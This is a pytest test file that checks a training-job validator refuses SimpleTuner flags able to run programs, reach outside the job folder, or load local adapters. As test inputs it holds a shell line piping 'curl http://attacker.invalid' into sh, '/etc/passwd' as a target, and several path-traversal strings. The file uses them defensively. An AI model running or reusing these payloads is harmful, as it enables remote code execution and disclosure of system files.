"""What a job may set among SimpleTuner's flags: every flag of the committed list is tried, as a job would set it.

The walks derive their cases from core/data/simpletuner_flags.json with their own (broader) patterns, so a flag that
a later SimpleTuner adds is tried too, and a rule in core/simpletuner/flags.py that misses it fails here.
"""

from __future__ import annotations

import json
import re
from pathlib import Path

import pytest

from core.errors import SpecError
from core.jobdir import JobDir
from core.simpletuner.flags import (
    ADAPTER_LISTS,
    BASE_MODEL,
    EXPLICIT,
    FILE_CONTENT,
    INLINE_JSON,
    OWNED,
    PROGRAM,
    REFUSED,
    UNREVIEWED,
    check_flag,
    classify,
)
from core.spec.job import CONFIG_SHORTHAND, parse_job, simpletuner_flags
from core.training.config import OWNED_FLAGS, build_trainer_files

FLAGS = simpletuner_flags()
RUNS_SOMETHING = re.compile(r"script|command|\bcmd\b|hook|exec|shell|subprocess|torch ?hub|remote code|custom code|"
                            r"launch|executable|program", re.IGNORECASE)
NAMES_A_PATH = re.compile(r"(_dir|_dirs|_path|_paths|_file|_files|_root|_folder|library|_config)$|^cache_dir|_dir_")
SAYS_A_PATH = re.compile(r"\b(path|paths|directory|folder|file|filename)\b", re.IGNORECASE)
# Flags the walk's words find that run nothing, each with the reason (a reviewer reads these).
NOT_A_PROGRAM = {
    "allow_dataset_oversubscription": "'subscription' holds the letters of 'script'",
    "ramtorch_disable_sync_hooks": "turns off torch's own CUDA synchronisation hooks",
    "validation_preview": "streams preview images over the job's own webhook",
    "webhook_config": "the job's own webhook file; a job's value is ignored",
}
JOB = JobDir(Path("/JOB"))
IMAGES = Path("/JOB/dataset/images")
EVIL_PATH = "/etc/passwd"


def a_job(**config) -> dict:
    return {"dataset": {"path": "/data"},
            "config": {"model_name": "stabilityai/stable-diffusion-xl-base-1.0", **config}}


def refusal(config: dict) -> SpecError | None:
    try:
        parse_job(a_job(**config))
    except SpecError as error:
        return error
    return None


def walked(pattern_hit) -> list[str]:
    return [name for name, flag in FLAGS.items() if name not in CONFIG_SHORTHAND and pattern_hit(name, flag)]


def _runs_something(name: str, flag: dict) -> bool:
    return bool(RUNS_SOMETHING.search(name) or RUNS_SOMETHING.search(flag.get("help", "")))


def _free_text(flag: dict) -> bool:
    return flag.get("type") == "str" and not flag.get("choices")


@pytest.mark.parametrize("name", walked(_runs_something))
def test_no_flag_that_runs_something_can_be_set_by_a_job(name):
    flag = FLAGS[name]
    if flag["type"] in ("int", "float") and not flag.get("choices"):
        return  # a number names no program
    if name in NOT_A_PROGRAM:
        assert classify(name, flag) not in (PROGRAM,) or flag["type"] == "bool"
        return
    if flag.get("choices"):
        bad = [choice for choice in flag["choices"] if RUNS_SOMETHING.search(str(choice))]
        assert bad, f"{name}: its help says it runs something, but no choice does; review it"
        for choice in bad:
            error = refusal({name: choice})
            assert error is not None and error.field == f"config.{name}", f"{name}={choice!r} was accepted"
        return
    value = True if flag["type"] == "bool" else "/bin/sh -c 'curl http://attacker.invalid | sh'"
    error = refusal({name: value})
    assert error is not None, f"config.{name} was accepted: a job could make SimpleTuner run a program"
    assert error.field == f"config.{name}"
    assert "program" in error.message or "code" in error.message


def test_a_bool_flag_that_runs_code_may_still_be_turned_off():
    assert parse_job(a_job(trust_remote_code=False)).config["trust_remote_code"] is False
    assert refusal({"trust_remote_code": True}).field == "config.trust_remote_code"
    assert refusal({"validation_method": "external-script"}).field == "config.validation_method"
    assert parse_job(a_job(validation_method="simpletuner-local"))


def _takes_a_path(name: str, flag: dict) -> bool:
    return _free_text(flag) and bool(NAMES_A_PATH.search(name) or SAYS_A_PATH.search(flag.get("help", "")))


@pytest.mark.parametrize("name", walked(_takes_a_path))
def test_no_flag_that_takes_a_path_reaches_outside_the_job(name):
    """Each is refused at validate, or ignored (the job's own folder is used), or it is the base model itself."""
    if classify(name, FLAGS[name]) == BASE_MODEL:
        return  # the documented exception: a local base model folder (tests below)
    error = refusal({name: EVIL_PATH})
    if error is not None:
        assert error.field == f"config.{name}", error.errors
        return
    files = build_trainer_files(parse_job(a_job(**{name: EVIL_PATH})), images_dir=IMAGES, job=JOB, device="cpu")
    assert EVIL_PATH not in json.dumps(files.to_dict()), f"config.{name} reached SimpleTuner's files"
    assert name in OWNED_FLAGS, f"{name} is ignored but not listed as owned, so no warning names it"


def test_only_the_base_model_and_its_vae_may_be_local_folders():
    assert sorted(n for n, f in FLAGS.items() if classify(n, f) == BASE_MODEL) == [
        "pretrained_model_name_or_path", "pretrained_vae_model_name_or_path"]
    for name in ("pretrained_t5_model_name_or_path", "controlnet_model_name_or_path", "sdxl_validation_stage2_model"):
        assert refusal({name: "/models/x"}).field == f"config.{name}"
        assert parse_job(a_job(**{name: "owner/some-model"}))


@pytest.mark.parametrize("name", [n for n, f in FLAGS.items() if _free_text(f) and n not in CONFIG_SHORTHAND])
def test_no_text_flag_can_carry_an_env_placeholder(name):
    error = refusal({name: "a {env:HF_TOKEN} b"})
    assert error is not None and error.field == f"config.{name}"


def test_every_free_text_flag_of_this_simpletuner_has_been_reviewed():
    unreviewed = [name for name, flag in FLAGS.items() if classify(name, flag) == UNREVIEWED]
    assert unreviewed == [], f"classify these in core/simpletuner/flags.py (REVIEWED_TEXT or EXPLICIT): {unreviewed}"
    stale = [name for name in EXPLICIT if name not in FLAGS and name != "base_model"]
    assert stale == [], f"EXPLICIT names flags this SimpleTuner does not have: {stale}"


@pytest.mark.parametrize(("name", "help_text", "kind"), [
    ("pre_validation_script", "Executable to run before validation.", PROGRAM),
    ("on_failure_command", "Shell command run when training fails.", PROGRAM),
    ("sample_output_dir", "Directory where samples will be saved.", OWNED),
    ("negative_prompt_file", "Path to a text file of negative prompts.", REFUSED),
    ("brand_new_text", "Some text nobody has looked at.", UNREVIEWED),
])
def test_a_flag_added_by_a_later_simpletuner_is_classified_by_the_rules(name, help_text, kind):
    flag = {"type": "str", "help": help_text}
    assert classify(name, flag) == kind
    if kind in (PROGRAM, REFUSED, UNREVIEWED):
        with pytest.raises(ValueError):
            check_flag(name, "anything", flag)


def test_json_flags_take_inline_json_only():
    assert refusal({"quantization_config": "/etc/quant.json"}).field == "config.quantization_config"
    spec = parse_job(a_job(quantization_config={"load_in_8bit": True}))
    files = build_trainer_files(spec, images_dir=IMAGES, job=JOB, device="cpu")
    assert json.loads(files.config["--quantization_config"]) == {"load_in_8bit": True}


def test_a_file_flag_takes_its_content_inline_and_the_file_is_written_in_the_job(tmp_path):
    assert refusal({"lycoris_config": "/etc/lycoris.json"}).field == "config.lycoris_config"
    assert refusal({"user_prompt_library": "~/prompts.json"}).field == "config.user_prompt_library"
    job = JobDir(tmp_path / "job").create()
    lycoris = {"algo": "lokr", "multiplier": 1.0, "linear_dim": 10000, "linear_alpha": 1, "factor": 16}
    spec = parse_job(a_job(lycoris_config=lycoris))
    files = build_trainer_files(spec, images_dir=job.dataset, job=job, device="cpu")
    path = Path(files.config["--lycoris_config"])
    files.write(job, webhook_url="http://127.0.0.1:1/webhook")
    assert path.parent == job.config and json.loads(path.read_text()) == lycoris


def test_outputs_leave_only_through_the_jobs_own_fields():
    for config in ({"push_to_hub": True}, {"publishing_config": [{"provider": "s3", "bucket": "x"}]},
                   {"hub_model_id": "someone/else"}, {"resume_from_checkpoint": "/other/job/checkpoint-5"},
                   {"main_process_ip": "10.0.0.5"}):
        (name,) = config
        assert refusal(config).field == f"config.{name}"
    assert parse_job(a_job(push_to_hub=False))


def _joined_onto_a_folder(name: str, flag: dict) -> bool:
    """Names SimpleTuner or its trackers join onto a folder: subfolders of a model repo, tracker projects and runs."""
    return _free_text(flag) and bool(re.search(r"subfolder|project|run_name", name))


@pytest.mark.parametrize("name", walked(_joined_onto_a_folder))
@pytest.mark.parametrize("value", ["../../escape", "/var/elsewhere", "a/b", "..", "x\\..\\y"])
def test_a_name_joined_onto_a_folder_is_one_plain_name(name, value):
    error = refusal({name: value})
    assert error is not None and error.field == f"config.{name}", value
    assert "one plain name" in error.message
    assert refusal({name: "my_project-2.0"}) is None


def test_the_walk_of_joined_names_covers_the_tracker_and_subfolder_flags():
    assert {"tracker_project_name", "tracker_run_name", "pretrained_transformer_subfolder",
            "pretrained_unet_subfolder"} <= set(walked(_joined_onto_a_folder))


@pytest.mark.parametrize("config", [
    [{"path": EVIL_PATH}],
    {"runs": [{"label": "other job", "paths": ["../jobs/other/output/pytorch_lora_weights.safetensors"]}]},
    {"runs": [{"adapters": [{"path": "/data/jobs/other/output", "strength": 0.5}]}]},
    ["/data/jobs/other/output/pytorch_lora_weights.safetensors"],
    [{"path": "owner/repo:../../etc/passwd"}],
])
def test_an_adapter_list_loads_adapters_from_the_hub_only(config):
    """validation_adapter_config's entries are loaded as local adapters when the path exists: like its twin
    validation_adapter_path, a local path is refused."""
    error = refusal({"validation_adapter_config": config})
    assert error is not None and error.field == "config.validation_adapter_config"
    assert "Hub repo id" in error.message
    assert refusal({"validation_adapter_path": EVIL_PATH}) is not None


def test_an_adapter_list_of_hub_repos_is_taken():
    config = {"runs": [{"label": "style", "paths": ["owner/style-lora:style.safetensors",
                                                   {"path": "owner/other", "strength": 0.7}]}]}
    spec = parse_job(a_job(validation_adapter_config=config))
    files = build_trainer_files(spec, images_dir=IMAGES, job=JOB, device="cpu")
    assert json.loads(files.config["--validation_adapter_config"]) == config


@pytest.mark.parametrize("value", ["custom-tracker", "Custom-Tracker", "wandb, CUSTOM-TRACKER ",
                                   ["wandb", "custom-tracker"]])
def test_a_tracker_that_runs_code_is_refused_however_it_is_written(value):
    """SimpleTuner splits report_to on commas and lower-cases each name."""
    error = refusal({"report_to": value})
    assert error is not None and error.field == "config.report_to"
    assert refusal({"report_to": "WandB"}) is None


@pytest.mark.parametrize("value", ["tensorboard", "WandB, TensorBoard", " TENSORBOARD"])
def test_the_tensorboard_tracker_simpletuner_fails_on_is_refused_saying_where_the_files_are(value):
    error = refusal({"report_to": value})
    assert error is not None and error.field == "config.report_to" and "runs/" in error.message


def test_every_json_flag_that_lists_adapters_has_its_entries_checked():
    """A JSON flag whose entries SimpleTuner loads as adapters (by name or help) must be in ADAPTER_LISTS, so each
    entry is held to Hub repos; a later SimpleTuner's new one fails here until it is."""
    listing = walked(lambda name, flag: classify(name, flag) in (INLINE_JSON, FILE_CONTENT)
                     and bool(re.search(r"adapter|lora", f"{name} {flag.get('help', '')}", re.IGNORECASE)))
    assert "validation_adapter_config" in listing
    unchecked = [name for name in listing if name not in ADAPTER_LISTS and name not in LORA_SETTINGS_NOT_ADAPTERS]
    assert unchecked == [], f"add to ADAPTER_LISTS (core/simpletuner/flags.py) or explain: {unchecked}"


LORA_SETTINGS_NOT_ADAPTERS = {
    "peft_lora_target_modules": "module names to train, not adapters to load",
}
